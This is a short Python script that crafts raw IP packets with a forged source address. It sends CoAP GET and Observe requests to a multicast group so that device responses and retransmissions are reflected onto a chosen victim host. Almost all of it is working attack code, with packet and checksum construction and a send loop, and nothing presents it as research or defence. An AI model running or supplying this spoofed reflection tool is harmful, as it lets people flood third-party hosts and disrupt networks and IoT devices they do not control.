"""Sends group requests whose source address is somebody else's, then stays for what leisure and retransmissions take:
forge.py INTERFACE VICTIM GROUP (root; Linux)."""

import socket
import struct
import sys
import time


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, destination, sport, payload):
    udp = struct.pack("!HHHH", sport, 5683, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 1, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(destination)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def request(message_id, token, path, observe):
    message = bytes([0x50 | len(token), 1]) + struct.pack("!H", message_id) + token
    number = 0
    if observe:
        message += bytes([0x60])
        number = 6
    for segment in path:
        delta = 11 - number
        number = 11
        message += bytes([delta << 4 | min(len(segment), 13)])
        if len(segment) >= 13:
            message += bytes([len(segment) - 13])
        message += segment.encode()
    return message


interface, victim, group = sys.argv[1:]
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
paths = [[".well-known", "core"], ["gp", "hall", "meter"], ["gp", "hall", "log"], ["gp", "hall"], []]
for number in range(20):
    octets = request(1000 + number, bytes([number]) * (number % 9), paths[number % 5], number % 3 == 0)
    sender.sendto(packet(victim, group, 40000 + number, octets), (group, 0))
time.sleep(20)
